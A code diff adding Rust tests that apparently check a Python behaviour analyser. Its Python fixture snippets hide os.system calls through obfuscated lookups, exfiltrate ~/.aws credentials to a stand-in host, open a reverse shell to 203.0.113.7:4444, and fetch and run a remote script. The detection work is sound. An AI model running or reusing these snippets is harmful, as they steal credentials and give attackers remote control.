@@ -290,3 +290,67 @@ fn hostile_shapes_end_in_a_gap_not_in_a_fall() {
         assert!(lines.len() < 1 << 21);
     }
 }
+
+#[test]
+fn functions_found_through_dictionaries_and_operators() {
+    for text in [
+        "import os\nvars(os)['system']('make all')",
+        "import os\nos.__dict__['sys' + 'tem']('make all')",
+        "import sys\nsys.modules['os'].system('make all')",
+        "import os, operator\noperator.attrgetter('system')(os)('make all')",
+        "import os, operator\noperator.methodcaller('system', 'make all')(os)",
+        "from os import *\nsystem('make all')",
+        "import ctypes\nctypes.CDLL(None).system(b'make all')",
+    ] {
+        let lines = py(text);
+        assert!(lines.contains("shell sh -c make all"), "{text}:\n{lines}");
+    }
+}
+
+#[test]
+fn requests_prepared_first_and_archives_in_memory() {
+    let lines = py(r#"
+import io, os, tarfile, urllib.request
+b = io.BytesIO()
+t = tarfile.open(fileobj=b, mode="w")
+t.add(os.path.expanduser("~/.aws"))
+r = urllib.request.Request("https://x.example", data=b.getvalue())
+r.add_header("X", os.environ["NAME"])
+urllib.request.urlopen(r)
+"#);
+    has(
+        &lines,
+        &["0 read ~/.aws", "1 connect Both https://x.example <- 0, 2"],
+    );
+}
+
+#[test]
+fn a_shell_over_a_socket_and_a_file_fetched_and_run() {
+    let lines = py(r#"
+import os, socket, subprocess, runpy, urllib.request
+s = socket.socket()
+s.connect(("203.0.113.7", 4444))
+os.dup2(s.fileno(), 0)
+subprocess.call(["/bin/sh", "-i"])
+urllib.request.urlretrieve("https://f.example/a.py", "/tmp/a.py")
+runpy.run_path("/tmp/a.py")
+"#);
+    assert!(
+        lines
+            .lines()
+            .any(|l| l.contains("connect Both tcp://203.0.113.7:4444 <- 1")),
+        "{lines}"
+    );
+    assert!(
+        lines
+            .lines()
+            .any(|l| l.contains("exec") && l.contains("/bin/sh -i <- 0")),
+        "{lines}"
+    );
+    assert!(
+        lines
+            .lines()
+            .any(|l| l.contains("exec python3 /tmp/a.py <- ") && l.contains('2')),
+        "{lines}"
+    );
+}
